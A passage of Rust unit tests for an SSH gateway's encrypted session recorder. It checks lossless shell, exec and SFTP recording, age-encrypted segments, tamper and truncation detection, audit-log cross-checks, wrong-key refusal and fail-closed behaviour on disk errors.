//! Unit tests of the recorder: everything that needs no SSH. Keys are
//! generated in-process (age X25519 and OpenSSH ed25519).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use age::secrecy::ExposeSecret;
use serde_json::Value;

use super::format::{self, ManifestEntry};
use super::reader::{self, AuditIndex, ReadError};
use super::*;
use crate::config::RecordingSettings;

struct Keys {
    x25519: PathBuf,
    x25519_pub: String,
    ssh: PathBuf,
    ssh_pub: String,
}

/// What the relay hands a recording: shared bytes.
fn b(data: &[u8]) -> bytes::Bytes {
    bytes::Bytes::copy_from_slice(data)
}

fn keys(dir: &Path) -> Keys {
    let id = age::x25519::Identity::generate();
    let x25519 = dir.join("auditor.age");
    std::fs::write(
        &x25519,
        format!("# test\n{}\n", id.to_string().expose_secret()),
    )
    .unwrap();
    let k =
        russh::keys::PrivateKey::random(&mut rand::rng(), russh::keys::Algorithm::Ed25519).unwrap();
    let ssh = dir.join("auditor_ed25519");
    std::fs::write(
        &ssh,
        k.to_openssh(russh::keys::ssh_key::LineEnding::LF)
            .unwrap()
            .as_bytes(),
    )
    .unwrap();
    Keys {
        x25519,
        x25519_pub: id.to_public().to_string(),
        ssh,
        ssh_pub: k.public_key().to_openssh().unwrap(),
    }
}

fn settings(dir: &Path, recipients: &[&str]) -> RecordingSettings {
    RecordingSettings {
        dir: dir.to_path_buf(),
        recipients: recipients.iter().map(|s| s.to_string()).collect(),
        retention: Duration::from_secs(400 * 86400),
        min_free_bytes: 0,
    }
}

struct Fixture {
    _tmp: tempfile::TempDir,
    keys: Keys,
    root: PathBuf,
    rec: Arc<Recorder>,
}

fn fixture() -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let keys = keys(tmp.path());
    let root = tmp.path().join("recordings");
    let rec = Recorder::new(&settings(&root, &[&keys.x25519_pub, &keys.ssh_pub])).unwrap();
    Fixture {
        _tmp: tmp,
        keys,
        root,
        rec: Arc::new(rec),
    }
}

fn meta(kind: RecordingKind, record_input: bool) -> RecordingMeta {
    RecordingMeta {
        session_id: "s-1".into(),
        user: "alice".into(),
        login: "deploy".into(),
        target: "web-1".into(),
        source: "127.0.0.1:5555".into(),
        wireguard_peer: Some("10.77.0.2".into()),
        kind,
        record_input: if record_input {
            crate::config::RecordInput::All
        } else {
            crate::config::RecordInput::None
        },
        pty: false,
        env: Vec::new(),
    }
}

fn shell() -> RecordingKind {
    RecordingKind::Shell {
        term: "xterm-256color".into(),
        cols: 80,
        rows: 24,
    }
}

fn show_json(f: &Fixture, id: &str, key: &Path) -> Vec<Value> {
    let stored = reader::open(&f.root, id).unwrap();
    let ids = reader::load_identities(key).unwrap();
    let mut out = Vec::new();
    export::show(&stored, &ids, true, &mut out).unwrap();
    String::from_utf8(out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn export_cast(f: &Fixture, id: &str) -> String {
    let stored = reader::open(&f.root, id).unwrap();
    let ids = reader::load_identities(&f.keys.ssh).unwrap();
    let mut out = Vec::new();
    export::export(&stored, &ids, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// The bytes of one stream, concatenated from the JSON event log.
fn stream_bytes(events: &[Value], stream: &str) -> Vec<u8> {
    use base64::Engine;
    let mut out = Vec::new();
    for e in events.iter().filter(|e| e["type"] == stream) {
        if let Some(t) = e["text"].as_str() {
            out.extend_from_slice(t.as_bytes());
        } else if let Some(b) = e["base64"].as_str() {
            out.extend(base64::engine::general_purpose::STANDARD.decode(b).unwrap());
        }
    }
    out
}

fn manifest(dir: &Path) -> Vec<ManifestEntry> {
    std::fs::read_to_string(dir.join(format::MANIFEST_FILE))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn stored_meta(dir: &Path) -> format::Meta {
    serde_json::from_slice(&std::fs::read(dir.join(format::META_FILE)).unwrap()).unwrap()
}

#[tokio::test]
async fn shell_round_trip_decrypts_with_x25519_and_ssh_keys() {
    let f = fixture();
    let r = f.rec.start(meta(shell(), true)).await.unwrap();
    let dir = f.root.join(r.id());
    // Created before start returned: metadata, manifest, sealed segment 0.
    assert!(dir.join("meta.json").exists());
    assert!(dir.join("000000.age").exists());
    assert_eq!(manifest(&dir).len(), 1);
    r.output(b(b"hello \xe2\x82")).await.unwrap(); // a euro sign split across chunks
    r.output(b(b"\xac world\r\n")).await.unwrap();
    r.output(b(&[0, 255, 254, 0, 1])).await.unwrap();
    r.stderr(b(b"warn\n")).await.unwrap();
    r.resize(100, 30).await.unwrap();
    r.input(b(b"ls\r")).await.unwrap();
    r.finish(Some(0), "closed", 3, 25).await.unwrap();
    r.finish(Some(0), "closed", 3, 25).await.unwrap(); // idempotent
    assert!(matches!(
        r.output(b(b"late")).await,
        Err(RecordingError::Closed)
    ));

    let m = stored_meta(&dir);
    let end = m.end.expect("end written");
    assert_eq!(end.reason, "closed");
    assert_eq!(
        (end.bytes_up, end.bytes_down, end.exit_status),
        (3, 25, Some(0))
    );
    assert_eq!(end.segments, manifest(&dir).len() as u64);
    assert_eq!(m.user, "alice");
    assert_eq!(m.kind, format::Kind::Shell);

    let v = reader::verify(&reader::open(&f.root, r.id()).unwrap());
    assert!(v.ok() && v.finished, "{v:?}");

    for key in [&f.keys.x25519, &f.keys.ssh] {
        let ev = show_json(&f, r.id(), key);
        assert_eq!(ev[0]["type"], "recording");
        assert_eq!(ev[0]["wireguard_peer"], "10.77.0.2");
        let mut want = b"hello \xe2\x82\xac world\r\n".to_vec();
        want.extend_from_slice(&[0, 255, 254, 0, 1]);
        assert_eq!(stream_bytes(&ev, "stdout"), want, "output is lossless");
        assert_eq!(stream_bytes(&ev, "stderr"), b"warn\n");
        assert_eq!(stream_bytes(&ev, "input"), b"ls\r");
        assert!(ev
            .iter()
            .any(|e| e["type"] == "resize" && e["cols"] == 100 && e["rows"] == 30));
        assert!(ev.iter().any(|e| e["type"] == "exit" && e["status"] == 0));
        assert!(ev
            .iter()
            .any(|e| e["type"] == "end" && e["end"]["reason"] == "closed"));
    }

    let cast = export_cast(&f, r.id());
    let mut lines = cast.lines();
    let header: Value = serde_json::from_str(lines.next().unwrap()).unwrap();
    assert_eq!(header["version"], 2);
    assert_eq!(
        (header["width"].as_u64(), header["height"].as_u64()),
        (Some(80), Some(24))
    );
    assert_eq!(header["env"]["TERM"], "xterm-256color");
    assert_eq!(header["gatehouse"]["user"], "alice");
    assert_eq!(header["gatehouse"]["session_id"], "s-1");
    assert!(header["timestamp"].as_u64().unwrap() > 1_600_000_000);
    let events: Vec<Value> = lines.map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(events.iter().all(|e| e.as_array().unwrap().len() == 3));
    let text: String = events
        .iter()
        .filter(|e| e[1] == "o")
        .map(|e| e[2].as_str().unwrap())
        .collect();
    assert!(text.contains("hello € world\r\n"), "{text:?}");
    assert!(events.iter().any(|e| e[1] == "r" && e[2] == "100x30"));
    assert!(events.iter().any(|e| e[1] == "i" && e[2] == "ls\r"));
    let times: Vec<f64> = events.iter().map(|e| e[0].as_f64().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "monotonic times");
}

#[tokio::test]
async fn input_is_not_stored_unless_the_role_records_it() {
    let f = fixture();
    let r = f.rec.start(meta(shell(), false)).await.unwrap();
    r.input(b(b"secret-password\r")).await.unwrap();
    r.output(b(b"$ ")).await.unwrap();
    r.finish(None, "closed", 16, 2).await.unwrap();
    let ev = show_json(&f, r.id(), &f.keys.x25519);
    assert!(stream_bytes(&ev, "input").is_empty());
    assert_eq!(ev[0]["record_input"], false);
    // Not in any decrypted segment either.
    let plain = decrypt_all_raw(&f, r.id());
    assert!(!plain.windows(15).any(|w| w == b"secret-password"));
}

/// Every segment's plaintext, decrypted with the stock age crate API.
fn decrypt_all_raw(f: &Fixture, id: &str) -> Vec<u8> {
    let dir = f.root.join(id);
    let ids = age::IdentityFile::from_file(f.keys.x25519.display().to_string())
        .unwrap()
        .into_identities()
        .unwrap();
    let mut out = Vec::new();
    for e in manifest(&dir) {
        let bytes = std::fs::read(dir.join(&e.file)).unwrap();
        let d = age::Decryptor::new(bytes.as_slice()).unwrap();
        let mut r = d
            .decrypt(ids.iter().map(|i| i.as_ref() as &dyn age::Identity))
            .unwrap();
        r.read_to_end(&mut out).unwrap();
    }
    out
}

#[tokio::test]
async fn binary_output_is_stored_as_raw_frames_not_base64() {
    let f = fixture();
    let r = f
        .rec
        .start(meta(
            RecordingKind::Exec {
                command: "cat blob".into(),
            },
            false,
        ))
        .await
        .unwrap();
    // 1 MiB that is not UTF-8 (a pseudo-random byte stream), in relay-sized
    // pieces, with a text line between two of them.
    let mut x: u32 = 0x1234_5678;
    let blob: Vec<u8> = (0..1 << 20)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            (x >> 24) as u8
        })
        .collect();
    let (a, rest) = blob.split_at(300_000);
    r.output(b(a)).await.unwrap();
    r.output(b(b"a text line\n")).await.unwrap();
    r.output(b(rest)).await.unwrap();
    r.finish(Some(0), "closed", 0, blob.len() as u64 + 12)
        .await
        .unwrap();

    let plain = decrypt_all_raw(&f, r.id());
    // The bytes are in the plaintext as they were relayed...
    assert!(
        plain.windows(4096).any(|w| w == &a[..4096]),
        "raw bytes stored"
    );
    // ...and the recording is barely larger than what was relayed (base64
    // would make it at least 4/3 as large).
    let sealed: u64 = manifest(&f.root.join(r.id())).iter().map(|e| e.size).sum();
    let relayed = blob.len() as u64;
    assert!(
        plain.len() as u64 <= relayed + relayed / 50 && sealed <= relayed + relayed / 25,
        "plaintext {} / sealed {sealed} bytes for {relayed} relayed",
        plain.len()
    );
    assert!(
        plain.windows(5).any(|w| w == b"\"ob\","),
        "a raw frame's event line"
    );
    // Read back exactly, text and binary in order.
    let ev = show_json(&f, r.id(), &f.keys.ssh);
    let mut want = a.to_vec();
    want.extend_from_slice(b"a text line\n");
    want.extend_from_slice(rest);
    assert_eq!(
        stream_bytes(&ev, "stdout"),
        want,
        "binary output is lossless"
    );
    assert!(ev
        .iter()
        .any(|e| e["type"] == "stdout" && e["text"] == "a text line\n"));
    let v = reader::verify(&reader::open(&f.root, r.id()).unwrap());
    assert!(v.ok() && v.finished, "{v:?}");
}

#[tokio::test]
async fn exec_records_command_output_stderr_and_exit_status() {
    let f = fixture();
    let r = f
        .rec
        .start(meta(
            RecordingKind::Exec {
                command: "echo hi; exit 7".into(),
            },
            false,
        ))
        .await
        .unwrap();
    r.output(b(b"hi\n")).await.unwrap();
    r.stderr(b(b"oops\n")).await.unwrap();
    let binary: Vec<u8> = (0..=255u8).cycle().take(100_000).collect();
    r.output(b(&binary)).await.unwrap();
    r.finish(Some(7), "closed", 0, 100_008).await.unwrap();
    let ev = show_json(&f, r.id(), &f.keys.ssh);
    assert_eq!(ev[0]["command"], "echo hi; exit 7");
    assert_eq!(ev[0]["kind"], "exec");
    assert_eq!(ev[0]["end"]["exit_status"], 7);
    let mut want = b"hi\n".to_vec();
    want.extend_from_slice(&binary);
    assert_eq!(stream_bytes(&ev, "stdout"), want);
    assert_eq!(stream_bytes(&ev, "stderr"), b"oops\n");
    // The plaintext metadata does not hold the command.
    let meta_text = std::fs::read_to_string(f.root.join(r.id()).join("meta.json")).unwrap();
    assert!(!meta_text.contains("echo hi"));
    let cast = export_cast(&f, r.id());
    assert!(cast.contains("$ echo hi; exit 7\\r\\n"), "{}", &cast[..300]);
    assert!(cast.contains("hi\\r\\n"));
    assert!(cast.contains("[exit status 7]"));
    // The text log says it without dumping binary.
    let stored = reader::open(&f.root, r.id()).unwrap();
    let ids = reader::load_identities(&f.keys.ssh).unwrap();
    let mut out = Vec::new();
    export::show(&stored, &ids, false, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(text.contains("command:  echo hi; exit 7"), "{text}");
    assert!(text.contains("stdout  hi\\n"), "{text}");
    assert!(text.contains("bytes of binary data"), "{text}");
    assert!(text.contains("exit status 7"), "{text}");
}

fn sftp_packet(t: u8, body: &[&[u8]]) -> Vec<u8> {
    let mut b = vec![t];
    for part in body {
        b.extend_from_slice(part);
    }
    let mut out = (b.len() as u32).to_be_bytes().to_vec();
    out.extend(b);
    out
}

fn s(v: &[u8]) -> Vec<u8> {
    let mut out = (v.len() as u32).to_be_bytes().to_vec();
    out.extend_from_slice(v);
    out
}

#[tokio::test]
async fn sftp_operations_are_recorded_without_file_contents() {
    let f = fixture();
    let r = f.rec.start(meta(RecordingKind::Sftp, false)).await.unwrap();
    let u32b = |v: u32| v.to_be_bytes().to_vec();
    r.input(b(&sftp_packet(1, &[&u32b(3)]))).await.unwrap();
    r.output(b(&sftp_packet(2, &[&u32b(3)]))).await.unwrap();
    r.input(b(&sftp_packet(
        3,
        &[&u32b(1), &s(b"/srv/upload.bin"), &u32b(0x1a), &u32b(0)],
    )))
    .await
    .unwrap();
    r.output(b(&sftp_packet(102, &[&u32b(1), &s(b"H")])))
        .await
        .unwrap();
    let content = b"TOP-SECRET-FILE-CONTENT".repeat(100);
    r.input(b(&sftp_packet(
        6,
        &[&u32b(2), &s(b"H"), &0u64.to_be_bytes(), &s(&content)],
    )))
    .await
    .unwrap();
    let ok = |id: u32| sftp_packet(101, &[&u32b(id), &u32b(0), &s(b""), &s(b"")]);
    r.output(b(&ok(2))).await.unwrap();
    r.input(b(&sftp_packet(4, &[&u32b(3), &s(b"H")])))
        .await
        .unwrap();
    r.output(b(&ok(3))).await.unwrap();
    r.input(b(&sftp_packet(
        18,
        &[&u32b(4), &s(b"/srv/upload.bin"), &s(b"/srv/final.bin")],
    )))
    .await
    .unwrap();
    r.output(b(&ok(4))).await.unwrap();
    r.finish(Some(0), "closed", 3000, 100).await.unwrap();
    let ev = show_json(&f, r.id(), &f.keys.x25519);
    let ops: Vec<&Value> = ev.iter().filter(|e| e["type"] == "sftp").collect();
    assert_eq!(ops[0]["op"], "version");
    assert_eq!(ops[1]["op"], "open");
    assert_eq!(ops[1]["path"], "/srv/upload.bin");
    assert_eq!(
        ops[1]["flags"],
        serde_json::json!(["write", "creat", "trunc"])
    );
    assert_eq!(ops[2]["op"], "close");
    assert_eq!(ops[2]["bytes_written"], content.len());
    assert_eq!(ops[3]["op"], "rename");
    assert_eq!(ops[3]["target"], "/srv/final.bin");
    let plain = decrypt_all_raw(&f, r.id());
    assert!(
        !plain.windows(10).any(|w| w == b"TOP-SECRET"),
        "contents are not stored"
    );
    let cast = export_cast(&f, r.id());
    assert!(
        cast.contains("[sftp] open /srv/upload.bin (write,creat,trunc): ok"),
        "{cast}"
    );
}

#[tokio::test]
async fn an_unparseable_sftp_stream_fails_the_recording() {
    let f = fixture();
    let r = f.rec.start(meta(RecordingKind::Sftp, false)).await.unwrap();
    r.input(b(&[0, 0, 0, 0, 9])).await.unwrap();
    // The writer fails asynchronously; the next call (or finish) reports it.
    let mut failed = None;
    for _ in 0..100 {
        if let Err(e) = r.input(b(b"x")).await {
            failed = Some(e);
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert!(
        matches!(failed, Some(RecordingError::Failed { .. })),
        "{failed:?}"
    );
}

/// A finished shell recording with `n` segments after segment 0 (short
/// interval: each burst of output gets its own segment).
async fn recording_with_segments(f: &Fixture, n: usize) -> String {
    f.rec
        .set_segment_interval_for_tests(Duration::from_millis(50));
    let r = f.rec.start(meta(shell(), false)).await.unwrap();
    for i in 0..n {
        r.output(b(format!("burst {i}\r\n").as_bytes()))
            .await
            .unwrap();
        let want = i + 2;
        let dir = f.root.join(r.id());
        let deadline = Instant::now() + Duration::from_secs(5);
        while manifest(&dir).len() < want && Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        assert_eq!(
            manifest(&dir).len(),
            want,
            "segment sealed after the interval"
        );
    }
    r.finish(Some(0), "closed", 0, 0).await.unwrap();
    r.id().to_string()
}

#[tokio::test]
async fn segments_are_sealed_by_time_and_by_size() {
    let f = fixture();
    let id = recording_with_segments(&f, 3).await;
    let dir = f.root.join(&id);
    // 0 (header), 3 bursts, and the end.
    assert_eq!(manifest(&dir).len(), 5);
    // Size bound: 10 MiB of output makes at least 3 segments.
    f.rec
        .set_segment_interval_for_tests(Duration::from_secs(3600));
    let r = f.rec.start(meta(shell(), false)).await.unwrap();
    let chunk = vec![b'a'; 1024 * 1024];
    for _ in 0..10 {
        r.output(b(&chunk)).await.unwrap();
    }
    r.finish(None, "closed", 0, 0).await.unwrap();
    let m = manifest(&f.root.join(r.id()));
    assert!(m.len() >= 4, "{} segments", m.len());
    // Each decrypted segment is an asciicast file by itself.
    let seg1 = std::fs::read(f.root.join(r.id()).join(&m[1].file)).unwrap();
    let ids = age::IdentityFile::from_file(f.keys.x25519.display().to_string())
        .unwrap()
        .into_identities()
        .unwrap();
    let mut plain = String::new();
    age::Decryptor::new(seg1.as_slice())
        .unwrap()
        .decrypt(ids.iter().map(|i| i.as_ref() as &dyn age::Identity))
        .unwrap()
        .read_to_string(&mut plain)
        .unwrap();
    let header: Value = serde_json::from_str(plain.lines().next().unwrap()).unwrap();
    assert_eq!(header["version"], 2);
    assert_eq!(header["gatehouse"]["segment"], 1);
    assert_eq!(header["gatehouse"]["prev_chain"], m[0].chain);
    assert!(plain.len() as u64 <= writer::SEGMENT_MAX + 2 * writer::CHUNK as u64 * 2);
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), to.join(e.file_name())).unwrap();
    }
}

fn problems(root: &Path, id: &str) -> Vec<String> {
    reader::verify(&reader::open(root, id).unwrap()).problems
}

#[tokio::test]
async fn verify_names_the_segment_for_each_kind_of_tampering() {
    let f = fixture();
    let id = recording_with_segments(&f, 4).await; // segments 0..=5
    let orig = f.root.join(&id);
    assert!(problems(&f.root, &id).is_empty());
    let scratch = tempfile::tempdir().unwrap();
    let case = |name: &str, tamper: &dyn Fn(&Path)| -> Vec<String> {
        let root = scratch.path().join(name);
        let dir = root.join(&id);
        copy_dir(&orig, &dir);
        tamper(&dir);
        let p = problems(&root, &id);
        assert!(!p.is_empty(), "{name}: not detected");
        p
    };
    let seg = |d: &Path, n: u64| d.join(format::segment_file(n));

    let p = case("flip", &|d| {
        let mut b = std::fs::read(seg(d, 2)).unwrap();
        let i = b.len() - 20;
        b[i] ^= 1;
        std::fs::write(seg(d, 2), b).unwrap();
    });
    assert!(
        p.iter()
            .any(|p| p.contains("segment 2 (000002.age): altered")),
        "{p:?}"
    );

    let p = case("delete", &|d| std::fs::remove_file(seg(d, 3)).unwrap());
    assert!(
        p.iter()
            .any(|p| p.contains("segment 3 (000003.age): missing")),
        "{p:?}"
    );

    let p = case("swap", &|d| {
        std::fs::rename(seg(d, 1), d.join("x")).unwrap();
        std::fs::rename(seg(d, 2), seg(d, 1)).unwrap();
        std::fs::rename(d.join("x"), seg(d, 2)).unwrap();
    });
    assert!(
        p.iter()
            .any(|p| p.contains("segment 1 (000001.age): holds the content of segment 2")),
        "{p:?}"
    );
    assert!(
        p.iter()
            .any(|p| p.contains("segment 2 (000002.age): holds the content of segment 1")),
        "{p:?}"
    );

    let p = case("truncate", &|d| {
        let b = std::fs::read(seg(d, 4)).unwrap();
        std::fs::write(seg(d, 4), &b[..b.len() / 2]).unwrap();
    });
    assert!(
        p.iter()
            .any(|p| p.contains("segment 4 (000004.age): truncated")),
        "{p:?}"
    );

    let p = case("replace", &|d| {
        // A valid age file to the same auditor, of another size.
        let r: age::x25519::Recipient = f.keys.x25519_pub.parse().unwrap();
        let forged = age::encrypt(&r, &[b'x'; 5000]).unwrap();
        std::fs::write(seg(d, 1), forged).unwrap();
    });
    assert!(
        p.iter()
            .any(|p| p.contains("segment 1 (000001.age): replaced")),
        "{p:?}"
    );

    let p = case("drop-tail", &|d| {
        // Remove the last segment and its manifest line.
        std::fs::remove_file(seg(d, 5)).unwrap();
        let m = std::fs::read_to_string(d.join(format::MANIFEST_FILE)).unwrap();
        let kept: Vec<&str> = m.lines().take(5).collect();
        std::fs::write(d.join(format::MANIFEST_FILE), kept.join("\n") + "\n").unwrap();
    });
    assert!(
        p.iter()
            .any(|p| p.contains("segment 5 (000005.age) missing")),
        "{p:?}"
    );

    let p = case("drop-middle-line", &|d| {
        std::fs::remove_file(seg(d, 2)).unwrap();
        let m = std::fs::read_to_string(d.join(format::MANIFEST_FILE)).unwrap();
        let kept: Vec<&str> = m
            .lines()
            .enumerate()
            .filter(|(i, _)| *i != 2)
            .map(|(_, l)| l)
            .collect();
        std::fs::write(d.join(format::MANIFEST_FILE), kept.join("\n") + "\n").unwrap();
    });
    assert!(
        p.iter()
            .any(|p| p.contains("segment 2 (000002.age) missing")),
        "{p:?}"
    );

    let p = case("added", &|d| {
        std::fs::copy(seg(d, 1), seg(d, 9)).map(|_| ()).unwrap()
    });
    assert!(
        p.iter()
            .any(|p| p.contains("segment 9 (000009.age): not in the manifest")),
        "{p:?}"
    );

    // Tampered recordings are not decrypted.
    let root = scratch.path().join("flip");
    let stored = reader::open(&root, &id).unwrap();
    let ids = reader::load_identities(&f.keys.ssh).unwrap();
    let err = export::export(&stored, &ids, &mut Vec::new()).unwrap_err();
    assert!(matches!(err, ReadError::Tampered { .. }));
    assert!(err.to_string().contains("segment 2"), "{err}");
}

#[tokio::test]
async fn audit_log_catches_a_consistently_rewritten_recording() {
    let f = fixture();
    let id = recording_with_segments(&f, 2).await; // 0..=3
    let dir = f.root.join(&id);
    let original = manifest(&dir);
    let log: String = original
        .iter()
        .map(|e| {
            serde_json::json!({"event": "recording.segment", "recording_id": id, "seq": e.seq, "chain": e.chain})
                .to_string()
                + "\n"
        })
        .collect::<String>()
        + &serde_json::json!({"event": "recording.finished", "recording_id": id,
            "segments": original.len(), "chain": original.last().unwrap().chain})
        .to_string();
    let index = AuditIndex::parse(&log);
    let check = || {
        let stored = reader::open(&f.root, &id).unwrap();
        let mut v = reader::verify(&stored);
        let alone = v.ok();
        index.check(&stored, &mut v);
        (alone, v.problems)
    };
    assert_eq!(check(), (true, vec![]));
    // Someone with the gateway's disk drops the last segment and rewrites
    // the manifest and metadata consistently: only the audit log knows.
    std::fs::remove_file(dir.join(format::segment_file(3))).unwrap();
    let kept: Vec<String> = original
        .iter()
        .take(3)
        .map(|e| serde_json::to_string(e).unwrap())
        .collect();
    std::fs::write(dir.join(format::MANIFEST_FILE), kept.join("\n") + "\n").unwrap();
    let mut m = stored_meta(&dir);
    let end = m.end.as_mut().unwrap();
    end.segments = 3;
    end.final_chain = original[2].chain.clone();
    std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
    let (alone, problems) = check();
    assert!(alone, "consistent rewrite passes the keyless check");
    assert!(
        problems
            .iter()
            .any(|p| p.contains("segment 3") && p.contains("audit log")),
        "{problems:?}"
    );
}

#[tokio::test]
async fn a_wrong_key_is_refused_without_showing_content() {
    let f = fixture();
    let r = f.rec.start(meta(shell(), false)).await.unwrap();
    r.output(b(b"CONFIDENTIAL\r\n")).await.unwrap();
    r.finish(None, "closed", 0, 0).await.unwrap();
    let other = keys(f._tmp.path().join("..").as_path());
    let stored = reader::open(&f.root, r.id()).unwrap();
    for key in [&other.ssh, &other.x25519] {
        let ids = reader::load_identities(key).unwrap();
        let err = export::export(&stored, &ids, &mut Vec::new()).unwrap_err();
        assert!(matches!(err, ReadError::WrongKey { .. }), "{err}");
        let msg = err.to_string();
        assert!(
            msg.contains("cannot open recording") && msg.contains(&f.keys.x25519_pub),
            "{msg}"
        );
        assert!(!msg.contains("CONFIDENTIAL"));
    }
    // Not a key at all.
    let junk = f._tmp.path().join("junk");
    std::fs::write(&junk, "hello\nCONFIDENTIAL-KEY-LINE\n").unwrap();
    let err = reader::load_identities(&junk).err().unwrap().to_string();
    assert!(
        err.contains("neither an age identity") && !err.contains("CONFIDENTIAL"),
        "{err}"
    );
    // Unknown ids and path tricks.
    assert!(matches!(
        reader::open(&f.root, "nope"),
        Err(ReadError::UnknownId(..))
    ));
    assert!(matches!(
        reader::open(&f.root, "../x"),
        Err(ReadError::BadId(..))
    ));
    // A unique prefix works.
    assert_eq!(reader::open(&f.root, &r.id()[..20]).unwrap().id, r.id());
}

#[tokio::test]
async fn an_unwritable_directory_fails_closed() {
    let tmp = tempfile::tempdir().unwrap();
    let k = keys(tmp.path());
    // Startup: a path that is a file.
    let file = tmp.path().join("file");
    std::fs::write(&file, "").unwrap();
    let e = Recorder::new(&settings(&file, &[&k.x25519_pub]))
        .err()
        .unwrap();
    assert!(matches!(e, RecordingError::Setup(_)), "{e}");
    // Bad recipients.
    let e = Recorder::new(&settings(tmp.path(), &["age1nonsense"]))
        .err()
        .unwrap();
    assert!(e.to_string().contains("recipient 1"), "{e}");
    // Later: the directory becomes unusable; new recordings are refused.
    let root = tmp.path().join("rec");
    let rec = Recorder::new(&settings(&root, &[&k.x25519_pub])).unwrap();
    assert_eq!(
        std::fs::metadata(&root).unwrap().permissions().mode() & 0o777,
        0o700
    );
    std::fs::remove_dir(&root).unwrap();
    std::fs::write(&root, "not a directory").unwrap();
    let e = rec.start(meta(shell(), false)).await.err().unwrap();
    assert!(matches!(e, RecordingError::Unwritable { .. }), "{e:?}");
    assert!(e.to_string().contains("nothing was run"));
    assert!(
        !e.to_string().contains(&root.display().to_string()),
        "no paths for users"
    );
    assert!(
        e.detail().contains(&root.display().to_string()),
        "paths for operators"
    );
}

use std::os::unix::fs::PermissionsExt;

#[tokio::test]
async fn too_little_free_space_refuses_new_recordings() {
    let tmp = tempfile::tempdir().unwrap();
    let k = keys(tmp.path());
    let mut s = settings(&tmp.path().join("rec"), &[&k.x25519_pub]);
    s.min_free_bytes = u64::MAX;
    let rec = Recorder::new(&s).unwrap();
    let e = rec.start(meta(shell(), false)).await.err().unwrap();
    assert!(matches!(e, RecordingError::DiskFull { .. }), "{e:?}");
    assert_eq!(
        std::fs::read_dir(tmp.path().join("rec")).unwrap().count(),
        0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slow_writer_slows_the_session_and_bounds_the_queue() {
    let f = fixture();
    const BPS: u64 = 4 * 1024 * 1024;
    f.rec.set_throttle_for_tests(Some(BPS));
    let r = f
        .rec
        .start(meta(
            RecordingKind::Exec {
                command: "cat big".into(),
            },
            false,
        ))
        .await
        .unwrap();
    let total = 12 * 1024 * 1024;
    let chunk: Vec<u8> = (0..64 * 1024).map(|i| b'a' + (i % 26) as u8).collect();
    let t0 = Instant::now();
    let mut sent = 0;
    while sent < total {
        r.output(b(&chunk)).await.unwrap();
        sent += chunk.len();
    }
    let fed = t0.elapsed();
    r.finish(Some(0), "closed", 0, total as u64).await.unwrap();
    // The writer can hold the queue plus one flush buffer; the rest had to
    // wait for the disk: feeding took about (total - buffers) / BPS.
    let buffered = (writer::QUEUE_CAP * writer::CHUNK + 512 * 1024) as f64;
    let min = (total as f64 - buffered) / BPS as f64 * 0.8;
    assert!(
        fed.as_secs_f64() >= min,
        "fed 12 MiB in {fed:?}: not slowed (min {min:.2}s)"
    );
    let hw = r.queue_high_water();
    assert!(
        hw <= ((writer::QUEUE_CAP + 2) * writer::CHUNK) as u64,
        "queue held {hw} bytes"
    );
    // Nothing dropped.
    let ev = show_json(&f, r.id(), &f.keys.x25519);
    assert_eq!(stream_bytes(&ev, "stdout").len(), total);
}

#[tokio::test]
async fn a_dropped_recording_is_sealed_as_aborted() {
    let f = fixture();
    let r = f.rec.start(meta(shell(), false)).await.unwrap();
    let id = r.id().to_string();
    r.output(b(b"before the crash\r\n")).await.unwrap();
    let clone = r.clone();
    drop(r);
    clone.output(b(b"still open\r\n")).await.unwrap();
    drop(clone);
    assert!(
        f.rec.drain(Duration::from_secs(10)).await,
        "writer finished"
    );
    let end = stored_meta(&f.root.join(&id)).end.expect("end written");
    assert_eq!(end.reason, "aborted");
    let cast = export_cast(&f, &id);
    assert!(cast.contains("before the crash") && cast.contains("still open"));
}

#[tokio::test]
async fn a_write_failure_ends_the_recording_and_keeps_sealed_segments() {
    let f = fixture();
    f.rec
        .set_segment_interval_for_tests(Duration::from_millis(50));
    let r = f.rec.start(meta(shell(), false)).await.unwrap();
    let dir = f.root.join(r.id());
    r.output(b(b"sealed part\r\n")).await.unwrap();
    let deadline = Instant::now() + Duration::from_secs(5);
    while manifest(&dir).len() < 2 && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert_eq!(manifest(&dir).len(), 2);
    // The directory disappears under the writer (as a failing disk would):
    // the next seal cannot rename into place.
    let moved = f.root.join("moved-away");
    std::fs::rename(&dir, &moved).unwrap();
    let mut err = None;
    for _ in 0..300 {
        if let Err(e) = r.output(b(b"lost part\r\n")).await {
            err = Some(e);
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let err = err.expect("the session is told");
    assert!(matches!(err, RecordingError::Failed { .. }), "{err:?}");
    assert!(err.to_string().contains("cannot continue unrecorded"));
    assert!(r.finish(None, "closed", 0, 0).await.is_err());
    // What was sealed verifies and reads.
    std::fs::rename(&moved, &dir).unwrap();
    let v = reader::verify(&reader::open(&f.root, r.id()).unwrap());
    assert!(v.ok(), "{v:?}");
    assert_eq!(v.good.len(), 2);
    assert!(export_cast(&f, r.id()).contains("sealed part"));
}

#[tokio::test]
async fn an_unfinished_recording_verifies_up_to_its_last_sealed_segment() {
    let f = fixture();
    let id = recording_with_segments(&f, 2).await;
    let dir = f.root.join(&id);
    // Simulate kill -9: no end in the metadata, an open temp segment, and a
    // sealed segment that did not make it into the manifest.
